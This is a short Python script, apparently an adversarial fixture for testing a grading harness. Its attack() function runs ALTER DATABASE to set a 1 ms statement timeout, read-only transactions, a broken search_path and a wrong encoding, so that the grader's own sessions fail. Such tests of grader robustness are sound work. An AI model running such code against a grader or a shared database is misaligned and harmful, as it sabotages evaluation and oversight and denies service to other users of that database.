"""Gives its database settings that break the grader's own sessions in it."""

import os

import psycopg


def attack() -> None:
    with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as connection:
        name = connection.info.dbname
        for setting in (
            "statement_timeout = 1",
            "default_transaction_read_only = on",
            "search_path = nowhere",
            "client_encoding = 'EUC_JP'",
        ):
            connection.execute(f"ALTER DATABASE {name} SET {setting}".encode())
